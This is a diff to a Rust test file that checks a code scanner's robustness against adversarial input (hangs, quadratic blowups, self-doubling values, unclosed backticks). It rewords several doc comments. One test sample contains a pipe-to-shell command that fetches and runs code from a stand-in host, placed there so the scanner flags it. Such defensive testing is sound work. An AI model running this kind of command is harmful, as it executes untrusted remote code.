@@ -1,6 +1,6 @@
 //! Bytes that were made to break a scanner: whatever they are called, a scan ends, soon, with a report.
 //!
-//! Bounds are of processor time, and generous, because a test runs without optimisation; they tell a loop without end and a square
+//! Bounds are of processor time, and generous, because a test runs without optimisation; they detect an endless loop and quadratic time
 //! from a line, no more. What a megabyte takes in a release build is in `docs/scanner.md`.
 
 use std::time::Duration;
@@ -84,7 +84,7 @@ fn survives(bytes: &[u8]) {
     }
 }
 
-/// Pieces of all the languages that are read; in any order they are a program that nobody wrote.
+/// Fragments of all languages that are parsed, combined in any order.
 const TOKENS: &[&str] = &[
     "\n",
     " ",
@@ -323,7 +323,7 @@ fn what_is_too_tangled_to_be_read_is_not_clean() {
     );
 }
 
-/// What a shell would run after much that is hard to read is found, or the report says that something was not read.
+/// What a shell would run after hard-to-parse text is found, or the report lists something as unread.
 // case 147
 #[test]
 fn nothing_hides_behind_a_tangle() {
@@ -403,7 +403,7 @@ fn a_flood_of_findings_is_cut_and_counted() {
     assert!(report.more > 0);
 }
 
-/// Values that are made of themselves: twice as large with each line.
+/// Values that contain themselves: twice as large with each line.
 #[test]
 fn values_that_double_stay_small() {
     for (path, line) in [
@@ -462,7 +462,7 @@ fn pipelines_among_backticks_that_do_not_match_come_to_an_end() {
     for text in [text, closed] {
         within_processor_time(&text, LONG, || scanned("run.sh", text.as_bytes()));
     }
-    // What stands before it, and what is properly closed, is read as ever.
+    // The text before it, and what is properly closed, is still read.
     let sample = "x=`date`; curl -s https://collect.invalid/p | bash; echo `oops\n";
     let report = scanned("run.sh", sample.as_bytes());
     assert!(!report.findings.is_empty(), "{report:?}");
